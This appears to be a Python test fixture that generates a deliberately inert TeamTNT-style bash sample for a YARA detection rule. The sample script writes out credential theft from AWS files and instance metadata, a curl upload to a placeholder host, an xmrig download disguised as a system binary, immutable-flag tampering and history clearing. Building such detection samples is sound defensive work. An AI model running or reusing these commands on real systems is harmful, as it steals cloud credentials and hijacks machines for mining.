"""Inert samples and near-misses for signatures/rules/teamtnt.yar."""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, text


def teamtnt() -> dict[str, bytes]:
    return {
        "teamtnt-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            "# TeamTNT",
            "cp /usr/bin/chattr /usr/bin/tntrecht",
            "tntrecht -ia /etc/ld.so.preload; chattr -ia /root/.ssh/authorized_keys",
            "pkill -f kdevtmpfsi; pkill -f xmrig",
            "sysctl -w vm.nr_hugepages=128",
            "cat /root/.aws/credentials > /tmp/.c 2>/dev/null",
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> /tmp/.c",
            f"curl -F 'f=@/tmp/.c' http://{HOST}/up.php",
            f"curl -s http://{HOST}/bin/xmrig -o /usr/bin/dbused",
            "history -c",
        )
    }


SAMPLES: Builders = {
    "TeamTNT_Shell_Script": teamtnt,
}

NEARMISS: Builders = {}
